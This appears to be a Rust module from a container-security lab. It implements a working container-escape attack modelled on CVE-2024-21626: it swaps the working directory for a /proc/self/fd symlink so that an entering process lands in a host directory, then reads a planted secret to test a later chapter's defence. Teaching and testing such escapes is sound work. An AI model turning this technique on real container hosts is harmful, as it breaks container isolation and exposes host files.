//! A directory of the host in which somebody starts who comes in.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use process::{Result, Step};

use crate::attack::attacker::{A_FILE, mount_proc, number, read_by_descriptor, wait_for_host};
use crate::attack::cell::Finding;
use crate::attack::entrant::{Attacked, join};
use crate::attack::places::{IMAGE, LAB};
use crate::attack::target::Attack;

/// The directory that whoever comes in is going to work in.
const DIRECTORY: &str = "/task";

pub const ATTACK: Attack = Attack {
    name: "newcomer-directory",
    title: "lead out a process that comes in",
    tries: "replace the directory in which somebody is going to work by a link to \
            /proc/self/fd/N, where N is a directory of the host that whoever comes in has open. \
            Where that is refused, look for the descriptor.",
    why: "the link leads to a descriptor of whoever follows it. Chapter 10's newcomer closes all \
          that it has inherited before it goes to the working directory, and looks where it is \
          afterwards, as a container's first process does from chapter 0 on.",
    reference: "CVE-2024-21626, proc_pid_fd(5), getcwd(3)",
    stopped_by: 10,
    run: |target| {
        let attacked = match Attacked::start(target)? {
            Ok(attacked) => attacked,
            Err(why_not) => return Ok(why_not),
        };
        let words = [LAB, "attack", "--inside", target.attack.name, "read"];
        let read = |workdir| -> Result<Finding> {
            let said = attacked.let_in(workdir, &words)?;
            Ok(said.has_read(target.secret, A_FILE))
        };
        let found = match read(DIRECTORY) {
            Err(error) if error.to_string().contains(DIRECTORY) => match read("/") {
                Ok(Finding::Blocked(why)) => {
                    Ok(Finding::Blocked(format!("the directory is refused; {why}")))
                }
                found => found,
            },
            found => found,
        };
        // Before chapter 7 it is the image's.
        let _ = fs::remove_file(Path::new(IMAGE).join(&DIRECTORY[1..]));
        attacked.end()?;
        found
    },
    inside: |words| match words {
        [what, rest @ ..] if what == "join" => join(rest),
        [what] if what == "read" => fs::read_to_string("canary").or_else(|_| read_by_descriptor()),
        _ => lay_out(number(words)?),
    },
};

fn lay_out(fd: u32) -> Result<String> {
    mount_proc();
    symlink(format!("/proc/self/fd/{fd}"), DIRECTORY).step(|| format!("link {DIRECTORY}"))?;
    wait_for_host()
}
